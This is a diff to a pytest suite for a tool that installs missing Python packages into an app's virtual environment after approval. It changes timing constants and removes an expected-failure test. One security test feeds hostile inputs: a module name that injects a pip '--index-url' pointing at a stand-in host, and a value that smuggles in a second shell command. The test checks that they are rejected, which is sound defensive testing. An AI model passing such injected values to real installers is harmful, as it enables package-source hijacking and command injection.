@@ -6,7 +6,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from support.scenario import FAST_ENGINE, Scenario, record, tree_digest, tune
+from support.scenario import SETTLED_WITHIN, Scenario, record, tree_digest, tune
 
 # The app imports what requirements.txt lists; the import fails for real in its venv.
 APP = """
@@ -66,21 +66,8 @@ def test_a_missing_package_is_installed_into_the_apps_venv_after_approval(
 ) -> None:
     seconds, harmed = heal_missing_package(sc, venv_python, wheelhouse)
     assert not harmed
-    assert "pip_install: verifying" in sc.history() or "pip_install: succeeded" in sc.history()
-    record("missing package in venv", "healed (approved)", harmed, seconds, "verifying (see bug: 30 s sweep)")
-
-
-@pytest.mark.xfail(
-    strict=True,
-    reason="a fix the CLI ran (healer approve) is settled only by the daemon's 30 s sweep"
-    " (service/housekeeping.SWEEP_INTERVAL): no date job at the end of its verify window, so it stays"
-    " 'verifying' for up to 30 s after a 1.5 s window",
-)
-def test_the_approved_install_is_recorded_as_succeeded_once_its_window_passed(
-    sc: Scenario, venv_python: Path, wheelhouse: Path
-) -> None:
-    heal_missing_package(sc, venv_python, wheelhouse)
-    sc.until_history("pip_install: succeeded", timeout=FAST_ENGINE["verify_window"] + 3)
+    sc.until_history("pip_install: succeeded", timeout=SETTLED_WITHIN)  # the CLI ran it: the daemon's sweep settles it
+    record("missing package in venv", "healed (approved)", harmed, seconds, "succeeded")
 
 
 @pytest.mark.xfail(
@@ -101,7 +88,8 @@ def test_hostile_module_names_are_a_security_escalation_and_nothing_is_installed
     for name in ("--index-url=http://evil.example/simple", f"x; touch {marker}"):
         assert sc.run_app(name, python=str(python)) == 1
     assert "No module named '--index-url=http://evil'" in sc.log.read_text()
-    seconds = sc.until(lambda: "escalate (hostile_input)" in sc.explain_all(), what="a security escalation")
+    sc.caught_up(sc.log)  # the verdict is taken as the line is read: no waiting for what will not come
+    seconds = sc.until(lambda: "escalate (hostile_input)" in sc.history(), 1, "a security escalation")
     assert "SECURITY:" in sc.explain_all()
     harmed = freeze(python) != others or marker.exists()
     assert not harmed
